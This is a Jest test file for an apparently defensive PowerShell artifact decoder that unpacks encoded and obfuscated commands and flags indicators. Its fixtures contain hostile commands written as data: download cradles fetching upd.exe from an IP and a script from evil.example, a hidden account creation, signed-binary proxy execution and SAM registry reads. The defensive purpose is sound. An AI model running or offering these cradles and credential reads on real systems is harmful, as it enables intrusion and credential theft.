import { analyseArtifact, decodeBase64Text, decodeLayers } from './index';

function utf16Base64(text: string): string {
  return Buffer.from(text, 'utf16le').toString('base64');
}

describe('artifact decoding', () => {
  it('decodes a PowerShell -EncodedCommand (UTF-16LE base64) and finds the download URL, host and file in it', () => {
    const inner = "$c=New-Object Net.WebClient;$c.DownloadFile('http://45.9.148.108/upd.exe','C:\\Users\\Public\\upd.exe')";
    const result = analyseArtifact(`powershell -ExecutionPolicy Bypass -e ${utf16Base64(inner)}`);
    expect(result.layers[0]).toEqual({ method: 'powershell_encoded_command', text: inner });
    expect(result.decoded).toBe(inner);
    const found = result.indicators.map((i) => `${i.type}:${i.value}`);
    expect(found).toEqual(expect.arrayContaining(['url:http://45.9.148.108/upd.exe', 'ip:45.9.148.108', 'file:C:\\Users\\Public\\upd.exe']));
    expect(result.traits.map((t) => t.id)).toEqual(expect.arrayContaining(['download_cradle', 'ps_exec_bypass']));
  });

  it('accepts any abbreviation of -EncodedCommand', () => {
    const blob = utf16Base64('whoami /all');
    for (const flag of ['-enc', '-EncodedCommand', '-ec', '/e']) {
      expect(decodeLayers(`powershell.exe ${flag} ${blob}`)[0]?.text).toBe('whoami /all');
    }
  });

  it('peels nested layers: an encoded command that itself decodes a base64 blob', () => {
    const innermost = 'IEX (New-Object Net.WebClient).DownloadString("https://evil.example/a.ps1")';
    const middle = `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${Buffer.from(innermost).toString('base64')}')))`;
    const result = analyseArtifact(`powershell -enc ${utf16Base64(middle)}`);
    expect(result.layers.map((l) => l.method)).toEqual(['powershell_encoded_command', 'base64']);
    expect(result.decoded).toContain('https://evil.example/a.ps1');
    expect(result.indicators.map((i) => i.value)).toContain('evil.example');
  });

  it('joins string concatenation, removes backticks and resolves [char] codes', () => {
    expect(analyseArtifact("I`E`X ('Down'+'load'+'String')").decoded).toBe("IEX ('DownloadString')");
    expect(analyseArtifact('[char]73+[char]69+[char]88').decoded).toBe("'IEX'");
  });

  it('leaves plain text alone and does not read binary garbage as text', () => {
    expect(decodeLayers('net user helpdesk$ P@ssw0rd /add')).toEqual([]);
    expect(decodeBase64Text(Buffer.from([0, 1, 2, 250, 251, 252, 3, 4, 5, 6, 7, 8]).toString('base64'))).toBeUndefined();
  });

  it('does not mistake .NET type names or file names for domains', () => {
    const values = analyseArtifact('$c = New-Object System.Net.WebClient; Start-Process upd.exe; [System.IO.File]::ReadAllText("a.txt")').indicators.filter((i) => i.type === 'domain');
    expect(values).toEqual([]);
  });

  it('recognises proxy execution through signed binaries and SAM hash extraction', () => {
    const ids = (text: string) => analyseArtifact(text).traits.map((t) => t.id);
    expect(ids('"C:\\Windows\\SysWow64\\Register-CimProvider.exe" -Path C:\\ProgramData\\x.dll')).toContain('signed_proxy_execution');
    expect(ids('$k = Get-Item HKLM:\\SAM\\SAM\\Domains\\Account')).toContain('sam_registry_read');
    expect(ids('"C:\\Program Files\\App\\app.exe" --path C:\\data')).toEqual([]);
  });
});
